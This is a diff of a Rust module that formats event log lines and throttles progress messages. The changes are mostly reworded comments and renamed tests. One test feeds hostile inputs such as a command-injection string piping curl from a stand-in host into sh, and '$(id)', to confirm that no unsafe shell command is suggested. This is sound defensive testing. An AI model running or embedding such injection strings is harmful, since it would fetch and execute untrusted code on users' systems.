@@ -11,16 +11,16 @@ use crate::text::{Line, Look, duration};
 /// Turns events into lines. Reports of progress are thinned out.
 #[derive(Default)]
 pub(crate) struct Lines {
-    /// When the progress of a task was last told.
+    /// When the progress of a task was last shown.
     told: HashMap<String, SystemTime>,
 }
 
-/// A task's progress is told once in this time.
+/// The least time between two lines about the progress of a task.
 const PROGRESS_EVERY: Duration = Duration::from_secs(1);
 
 impl Lines {
-    /// Returns the line of an event: a time, the type, the task, and what else there is to say. Returns
-    /// `None` for a report of progress that comes too soon after another.
+    /// Returns the line of an event: a time, the type, the task, and details. Returns `None` for a report of progress
+    /// that comes too soon after another.
     pub(crate) fn line(&mut self, event: &ReceivedEvent, now: SystemTime) -> Option<Line> {
         let data: Value = event.json().unwrap_or_default();
         let time = time_of(&data);
@@ -63,7 +63,7 @@ fn look(event_type: &str) -> Look {
     }
 }
 
-/// What else an event of either log says.
+/// The details of an event of either log.
 fn details(data: &Value) -> Vec<String> {
     let mut details = Vec::new();
     if let Some(attempt) = data["attempt"].as_u64()
@@ -103,8 +103,8 @@ fn details(data: &Value) -> Vec<String> {
     details
 }
 
-/// Returns what a wait waits for, and how to answer it: only for a type that the platform takes, since people paste
-/// it into a shell, and it comes from the server.
+/// Returns the event that a wait waits for, and how to send it: only for a type that the platform takes, since people
+/// paste it into a shell, and it comes from the server.
 pub(crate) fn waits_for(event_type: &str) -> String {
     let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"-_".contains(&byte);
     let is_type = (1..=100).contains(&event_type.len()) && event_type.bytes().all(plain);
@@ -172,7 +172,7 @@ mod tests {
     }
 
     #[test]
-    fn only_what_is_safe_in_a_shell_is_told_to_be_typed() {
+    fn only_commands_that_are_safe_in_a_shell_are_suggested() {
         assert_eq!(waits_for("a-B_1"), "waits for \"a-B_1\": --send a-B_1");
         for hostile in ["a;curl evil.example|sh", "$(id)", "a b", "", "\u{e9}"] {
             assert_eq!(waits_for(hostile), format!("waits for \"{hostile}\""));
@@ -180,7 +180,7 @@ mod tests {
     }
 
     #[test]
-    fn progress_is_told_once_a_second() {
+    fn progress_is_printed_once_a_second() {
         let mut lines = Lines::default();
         let mut told = 0;
         for index in 0..100_u32 {
